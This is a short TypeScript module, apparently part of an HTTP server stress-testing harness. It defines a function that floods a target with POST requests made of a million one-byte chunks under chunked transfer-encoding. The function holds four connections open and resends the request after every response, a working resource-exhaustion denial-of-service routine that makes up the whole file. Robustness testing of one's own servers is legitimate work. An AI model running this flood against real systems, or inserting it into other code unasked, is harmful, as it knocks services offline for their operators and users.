import { type Attack, keepOpen, postHead } from './attack.ts';

const CHUNKS = 1_000_000;
const CONNECTIONS = 4;

/** Posts bodies of a million chunks of one byte: 6 MB over the wire, of which 1 MB is content. */
export function sendTinyChunks(byte: string, type: string): Attack {
  const head = postHead('transfer-encoding: chunked').replace('application/json', type);
  const request = Buffer.from(`${head}${`1\r\n${byte}\r\n`.repeat(CHUNKS)}0\r\n\r\n`);
  return (target, signal) =>
    keepOpen(target, signal, CONNECTIONS, (socket) => {
      socket.write(request);
      socket.on('data', (chunk: Buffer) => {
        if (chunk.includes('HTTP/1.1 ')) socket.write(request);
      });
    });
}
